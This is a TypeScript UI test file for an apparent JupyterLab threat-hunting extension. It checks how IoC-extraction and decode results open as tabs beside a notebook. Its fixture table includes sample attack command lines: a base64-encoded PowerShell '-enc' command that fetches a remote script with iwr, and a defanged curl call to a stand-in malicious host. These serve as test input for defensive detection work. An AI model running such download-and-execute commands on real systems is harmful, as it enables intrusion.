import { expect, IJupyterLabPageFixture, test } from '@jupyterlab/galata';
import { mainTab, runAction, setCode, shownTable } from './huntviews';
import { closeTab, expectTabGroups, fromOutputMenu, notebookShare, tabGroups } from './resultarea';

// Results open as tabs of ONE result area beside the notebook: the first splits right of the
// notebook, later ones (Extract, Decode, hunt.open tables) are tabs of that area, and once the
// user closed them all the next result splits again. Titles name the execution count [n].

const NOTEBOOK = 'results.ipynb';

/** A small table of command lines: IPs, a defanged URL and a UTF-16LE -enc command. */
const TABLE_CELL = [
  'import base64',
  'import pandas as pd',
  'from jupyterlab_hunt import hunt',
  "enc = base64.b64encode('iwr http://10.9.8.7/a.ps1'.encode('utf-16le')).decode()",
  'df = pd.DataFrame({',
  "    'Computer': ['ws1', 'ws2', 'ws3'],",
  "    'CommandLine': ['ping 10.0.0.1', f'powershell -enc {enc}', 'curl hxxp://evil[.]example/x'],",
  '})',
  'hunt.show(df)'
].join('\n');

const LOG_CELL = "print('sshd: Accepted publickey for root from 192.0.2.7 port 50022')";

/** The execution count JupyterLab shows for cell `index`, e.g. "[3]". */
async function shownCount(page: IJupyterLabPageFixture, index: number): Promise<string> {
  const cell = await page.notebook.getCellLocator(index);
  const prompt = (await cell!.locator('.jp-InputPrompt').textContent()) ?? '';
  return prompt.replace(/:$/, '').trim();
}

test.describe('Result area', () => {
  test('results of outputs, table views and hunt.open are tabs of one area right of the notebook; [n] titles; a new split once all are closed', async ({
    page
  }) => {
    const errors: string[] = [];
    page.on('pageerror', err => errors.push(err.message));
    await page.notebook.createNew(NOTEBOOK);
    await setCode(page, 0, TABLE_CELL);
    await setCode(page, 1, LOG_CELL);
    // Run the log cell twice: its execution count is no longer its position.
    await page.notebook.run();
    await page.notebook.runCell(1, true);
    const count = await shownCount(page, 1);
    expect(count).toBe('[3]');

    await fromOutputMenu(page, 1, 'Extract IoCs');
    await mainTab(page, `IoCs: ${count}`);
    await expectTabGroups(page, [[NOTEBOOK], [`IoCs: ${count}`]]);
    const iocs = await shownTable(page, `IoCs: ${count}`);
    expect(iocs.rows.map(r => r.slice(0, 2))).toEqual([['ipv4', '192.0.2.7']]);

    await page.notebook.activate(NOTEBOOK);
    await fromOutputMenu(page, 1, 'Decode');
    await mainTab(page, `Decoded: ${count}`);
    await expectTabGroups(page, [[NOTEBOOK], [`IoCs: ${count}`, `Decoded: ${count}`]]);

    // A table action on the hunt.show table in the notebook: the same area.
    await page.notebook.activate(NOTEBOOK);
    const table = page.locator('.jp-NotebookPanel .jp-hunt-TableView').first();
    await runAction(table, 'Extract IoCs');
    await mainTab(page, 'IoCs: df');
    // A table the kernel sends with hunt.open: the same area.
    await page.notebook.activate(NOTEBOOK);
    await page.notebook.addCell('code', 'hunt.open(df)');
    // The table tab comes to the front (the status bar then shows no kernel): no wait for Idle.
    await page.notebook.runCell(2, { inplace: true, wait: false });
    await mainTab(page, 'df');
    await expectTabGroups(page, [
      [NOTEBOOK],
      [`IoCs: ${count}`, `Decoded: ${count}`, 'IoCs: df', 'df']
    ]);
    // Four results later the notebook still has its share of the width.
    expect(await notebookShare(page, NOTEBOOK)).toBeGreaterThan(0.4);

    // Close every result: the next result splits right of the notebook again.
    for (const label of [`IoCs: ${count}`, `Decoded: ${count}`, 'IoCs: df', 'df']) {
      await closeTab(page, label);
    }
    await expectTabGroups(page, [[NOTEBOOK]]);
    await page.notebook.activate(NOTEBOOK);
    await runAction(table, 'Decode');
    await mainTab(page, 'Decoded: df');
    await expectTabGroups(page, [[NOTEBOOK], ['Decoded: df']]);
    const decoded = await shownTable(page, 'Decoded: df');
    expect(decoded.rows.length).toBeGreaterThan(0);
    expect(errors).toEqual([]);
  });

  test('after Restart & Run All and after a page reload, results still open in one area with the new counts', async ({
    page
  }) => {
    const errors: string[] = [];
    page.on('pageerror', err => errors.push(err.message));
    await page.notebook.createNew(NOTEBOOK);
    await setCode(page, 0, TABLE_CELL);
    await setCode(page, 1, LOG_CELL);
    await page.notebook.run();
    await page.notebook.run();
    expect(await shownCount(page, 1)).toBe('[4]');
    await fromOutputMenu(page, 1, 'Extract IoCs');
    await mainTab(page, 'IoCs: [4]');

    // Restart & Run All: counts start again at 1; the next result joins the open area.
    // (A new kernel by changeKernel: in Galata's server, executions sent after restartKernel
    // never complete, with or without this extension; see context-runall.spec.ts.)
    await page.notebook.activate(NOTEBOOK);
    await page.evaluate(async file => {
      const app = (window as any).jupyterapp;
      // The notebook by its path: a result tab may be the current widget.
      const panel = [...app.shell.widgets('main')].find((w: any) =>
        w.context?.path?.endsWith(file)
      );
      app.shell.activateById(panel.id);
      await panel.sessionContext.changeKernel({ name: 'python3' });
      await panel.sessionContext.ready;
      void app.commands.execute('notebook:run-all-cells');
    }, NOTEBOOK);
    await expect.poll(() => shownCount(page, 1), { timeout: 60000 }).toBe('[2]');
    await fromOutputMenu(page, 1, 'Extract IoCs');
    await mainTab(page, 'IoCs: [2]');
    await expectTabGroups(page, [[NOTEBOOK], ['IoCs: [4]', 'IoCs: [2]']]);

    // Save, reload: result tabs are not restored; the first new result splits again. (A plain
    // browser reload: galata's page.reload() waits for a Launcher and its notebook helpers are
    // not wired again, so the notebook is reached through the page.)
    // Saved through its own context: the current widget may be a result tab, not the notebook.
    await page.evaluate(async file => {
      const app = (window as any).jupyterapp;
      const panel = [...app.shell.widgets('main')].find((w: any) =>
        w.context?.path?.endsWith(file)
      );
      await panel.context.save();
    }, NOTEBOOK);
    await page.evaluate(() => window.location.reload());
    await page.locator('#jupyterlab-splash').waitFor({ state: 'detached' });
    await page.locator('.jp-NotebookPanel').first().waitFor();
    await expect.poll(() => tabGroups(page), { timeout: 30000 }).toEqual([[NOTEBOOK]]);
    const table = page.locator('.jp-NotebookPanel .jp-hunt-TableView').first();
    await expect(table.locator('.jp-hunt-TableCount')).toContainText('3 rows', { timeout: 30000 });
    await runAction(table, 'Extract IoCs');
    await mainTab(page, 'IoCs: df');
    await page.locator('.lm-TabBar-tab', { hasText: NOTEBOOK }).click();
    const output = page
      .locator('.jp-NotebookPanel .jp-Cell')
      .nth(1)
      .locator('.jp-OutputArea-child');
    await output.first().click({ button: 'right' });
    await page.locator('.lm-Menu .lm-Menu-item', { hasText: /^Decode$/ }).click();
    await mainTab(page, 'Decoded: [2]');
    await expectTabGroups(page, [[NOTEBOOK], ['IoCs: df', 'Decoded: [2]']]);
    expect(errors).toEqual([]);
  });
});
